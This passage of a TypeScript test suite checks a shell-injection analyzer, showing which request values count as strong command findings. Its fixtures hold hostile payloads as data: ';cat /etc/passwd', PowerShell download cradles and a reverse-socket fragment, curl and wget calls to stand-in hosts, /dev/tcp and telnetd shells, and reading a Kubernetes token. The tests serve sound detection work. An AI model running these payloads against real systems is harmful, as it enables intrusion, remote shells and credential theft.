    const path = (text: string) => Math.max(0, ...found(text).map((f) => f.strength));
    for (const p of ["/shop/items/;id", "/files/|id", "/files/';id;'"]) expect(path(p)).toBe(s(p.slice(p.lastIndexOf("/") + 1)));
    // A harmless break character in an earlier segment hides nothing; a carriage return opens a command as a line feed does.
    for (const p of ["/shop/it&m/;id", "/shop/o'neil/;id", "/x/\rid"]) expect(path(p)).toBe(path("/shop/items/;id"));
    expect(path("/shop/items/;id")).toBeGreaterThanOrEqual(0.8);
    // Evidence spans point into the whole path.
    const f = found("/shop/items/;id")[0]!;
    expect("/shop/items/;id".slice(f.start, f.end)).toBe(";id");
    // Matrix parameters and words joined by `&` in a segment are no command.
    for (const p of ["/shop/item;jsessionid=A1B2C3", "/wiki/Tom&Jerry", "/tags/rock|pop"]) expect(path(p)).toBeLessThan(0.5);
  });

  test("a command in a route parameter, with more of the path after it, is judged where the route's tail starts", () => {
    const path = (text: string) => Math.max(0, ...shellAnalyzer.analyze({ text, location: "path", path: "path", name: "", kind: "path" }).map((f) => f.strength));
    // `;id/view` read whole is a program `id/view`; the segment is `;id`.
    for (const p of ["/files/;id/view", "/api/users/|id/profile", "/files/a);id/view"]) expect(path(p)).toBe(path(p.slice(0, p.lastIndexOf("/"))));
    expect(path("/files/;id/view")).toBeGreaterThanOrEqual(0.8);
    // A payload that holds slashes itself, with the route's tail after it.
    for (const p of ["/files/|/usr/bin/id/view", "/api/v1/a;cat /etc/passwd/raw/1"]) expect(path(p)).toBeGreaterThanOrEqual(0.8);
    for (const p of ["/shop/item;jsessionid=A1B2C3/reviews", "/wiki/Tom&Jerry/talk", "/tags/rock|pop/page/2"]) expect(path(p)).toBeLessThan(0.5);
  });

  test("English with separators is not a strong finding", () => {
    for (const v of ["see you; bye", "Tom & Jerry", "rock|pop", "python|php|ruby", "I love my dog; cat food", "hello;Cat /x", "Loading; please wait", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"]) {
      expect(s(v)).toBeLessThan(0.8);
    }
    expect(s("rock|pop")).toBe(0);
  });

  test("a configuration's key that is a command's name, assigned, and a word called as a function, are no command; PowerShell's tools called so are", () => {
    for (const v of ['resource "r" {\n  type        = "ingress"\n}', "a = 1\ntime = 5", "[logging]\nlevel = info\nfile = /tmp/app.log", "x\nenv := prod", "deps\nsort += name", "del(.password, .token)", ". | del(.password)", "x; sort(list)"]) {
      expect([v, s(v)]).toEqual([v, 0]);
    }
    // After `;`, `|` or `&` a shell runs `cat = file` all the same: `=` is its first argument.
    for (const v of ["; iex(irm evil.example/a)", "; IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))", ";cat /etc/passwd", "x\nfile /etc/passwd", "127.0.0.1; cat = /home/app/.env", "; curl = http://evil.example/x -o /tmp/x"]) {
      expect([v, s(v) >= 0.7]).toEqual([v, true]);
    }
  });

  test("a script sent as a value, and random telemetry, stay below strong", () => {
    expect(s("#!/bin/sh\nset -x\n\nlscpu\ncat /proc/meminfo\n")).toBeLessThan(0.8);
    expect(s("2;31591;AYNH<pZV[M^A6(Bh$#o ;dl}ULS*~C-PH+|nc>oLjPc).#ka")).toBeLessThan(0.8);
  });

  test("evidence spans the separator and the command", () => {
    expect(evidence(shellAnalyzer, "item=5;cat /etc/passwd")).toBe(";cat /etc/passwd");
  });

  test("a 1 MB value is judged whole, and binary junk gives no throw", () => {
    const big = "a ".repeat(500_000) + "x;cat /etc/passwd";
    expect(s(big)).toBeGreaterThanOrEqual(0.8);
    expect(s(";".repeat(1_000_000))).toBe(0);
    expect(s("f(){ ".repeat(200_000))).toBe(0);
    expect(s("`".repeat(300_000) + "'".repeat(300_000))).toBeLessThan(0.8);
    expect(() => shellAnalyzer.analyze({ text: junk(200_000), location: "body", path: "body", name: "", kind: "text" })).not.toThrow();
    expect(s("")).toBe(0);
  });

  test("a glob word whose brackets make no class names no binary, and the rest of the value is still judged", () => {
    expect(() => s("/???/c?t[")).not.toThrow();
    expect(s("/???/c?t[")).toBe(0);
    expect(s("/[z-a]in/sh")).toBe(0);
    // The analyzer used to throw on the word, which cost the value's other findings.
    expect(strongest(shellAnalyzer, "/dev/tcp/198.51.100.7/80 x ;/???/c?t[")?.rule).toBe("shell.dev-tcp");
  });

  test("the separators and words of a value are found wherever it is long or short", () => {
    // Long values are searched another way than short ones: both find the same command.
    for (const pad of ["", "a".repeat(200)]) {
      expect(evidence(shellAnalyzer, `${pad}x;cat /etc/passwd`)).toBe(";cat /etc/passwd");
      expect(s(`${pad}1\\nwget http://198.51.100.7/a`)).toBeGreaterThanOrEqual(0.8);
      expect(s(`${pad} word word`)).toBe(0);
    }
  });
});

describe("shell analyzer: round s22's fixes", () => {
  test("a whole value that is a number-taking command then prose is a search; after a separator it stays a command", () => {
    for (const v of ["sleep 10 hours", "sleep 30 minutes", "ping 10.0.0.1 x"]) expect([v, s(v)]).toEqual([v, 0]);
    expect(s(";sleep 10 x")).toBeGreaterThanOrEqual(0.85);
    expect(s("sleep 10")).toBe(0.5);
    // A whole value spelled for a shell stays a command.
    for (const v of ["sl''eep 10 x", "s$@leep 10 x"]) expect([v, s(v) >= 0.85]).toEqual([v, true]);
  });
  test("PowerShell and interpreters told to run inline code after other options", () => {
    const enc = Buffer.from("whoami /all", "utf16le").toString("base64");
    for (const v of [`powershell -nop -w hidden -enc ${enc}`, `powershell -nop -EncodedCommand ${enc}`, "python3 -u -c 'import os'"]) expect([v, s(v)]).toEqual([v, 0.85]);
  });
});

describe("shell analyzer: PowerShell sent in base64", () => {
  const ps = (text: string, path: string) => Math.max(0, ...shellAnalyzer.analyze({ text, location: "query", path, name: "q", kind: "value" }).filter((f) => f.rule === "shell.powershell").map((f) => f.strength));
  const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')";
  const socket = "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$stream = $client.GetStream()";

  test("a base64 reading is a script sent to be run, read from its start", () => {
    for (const path of ["query.q~base64", "query.q~base64#2"]) for (const v of [cradle, socket]) expect([path, v, ps(v, path)]).toEqual([path, v, 0.9]);
    // The same text as the value itself is a script quoted; a reading of a reading of base64 is not base64.
    for (const path of ["query.q", "query.q~base64~json.cmd"]) expect([path, ps(cradle, path)]).toEqual([path, 0]);
  });

  test("a runner given code after a separator", () => {
    expect(ps(`; ${cradle}`, "query.q")).toBe(0.9);
    expect(ps("; iex is an alias", "query.q")).toBe(0);
  });
});

describe("shell analyzer: round s23's fixes", () => {
  test("a probe command as the whole value of a parameter named for a command", () => {
    const named = (text: string, name: string) => strength(shellAnalyzer, text, { name, path: `query.${name}` });
    for (const [v, name] of [["id", "cmd"], ["whoami /all", "command"], [" hostname -I", "exec"]] as const) expect([v, name, named(v, name)]).toEqual([v, name, 0.85]);
    // A file manager's own verbs; the same word under another name.
    for (const [v, name] of [["ls", "cmd"], ["chmod", "cmd"], ["open", "cmd"], ["id", "q"], ["whoami", "user"], ["id desc", "cmd"], ["id desc", "run"]] as const) expect([v, name, named(v, name)]).toEqual([v, name, 0]);
  });

  test("a device's shell daemon and a program dropped in the working directory, run after a separator", () => {
    for (const v of ["`telnetd -p 4444 -l /bin/sh`", ";telnetd -l /bin/sh -p 9999", "1;./mips -x", "`./x`"]) expect([v, s(v) >= 0.85]).toEqual([v, true]);
    expect(s(";./mips")).toBe(0.8);
    // A program of one's own is a word a shell line in docs runs too; a dot file and a relative link are none.
    expect(s("chmod 755 script.sh && ./script.sh")).toBeLessThan(0.8);
    for (const v of ["see ./docs/readme.md", "x; ./.hidden"]) expect([v, s(v)]).toEqual([v, 0]);
  });
});

describe("shell analyzer: a cluster's secrets", () => {
  test("a command that reads a pod's service-account token", () => {
    expect(s("cat /var/run/secrets/kubernetes.io/serviceaccount/token")).toBe(0.9);
    // A help post that names the file in a sentence, and another folder under /var/run.
    for (const v of ["cat /var/run/secrets/kubernetes.io/serviceaccount/token returns permission denied", "ls /var/run/postgresql"]) expect([v, s(v) < 0.85]).toEqual([v, true]);
  });
});

describe("shell analyzer: a quoted word on a line of its own", () => {
  test("is a list's item (a Go import block, pretty-printed JSON), not a command spelled to dodge a filter", () => {
    for (const v of ['import (\n\t"time"\n)', '[\n  "date",\n  "time"\n]']) expect([v, s(v) < 0.8]).toEqual([v, true]);
    // After an operator it is the trick it always was; a tool's name stays strong on any line.
    expect(s(';"id"')).toBe(0.9);
    expect(s('x\n"whoami"')).toBe(0.9);
  });
});

describe("shell analyzer: a payload round's forms", () => {
  test("a NUL ends a word, as C's system() reads the command; xterm is a tool", () => {
    expect(s(";id\u0000")).toBe(0.6);
    expect(s(";xterm -display 10.0.0.1:1")).toBe(0.9);
  });

  test("assignments before a word, a dot, and course names stay prose (tried and dropped: Dockerfiles, npm scripts and ellipses flagged)", () => {
    for (const v of ["RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y tzdata", "npm ci && NODE_ENV=production npm run build", "hmm;. . . no idea", "Physics 1 & Calc 2", "my link: https://example.com/?id=5&ref=home top"]) expect([v, s(v) < 0.8]).toEqual([v, true]);
  });
});
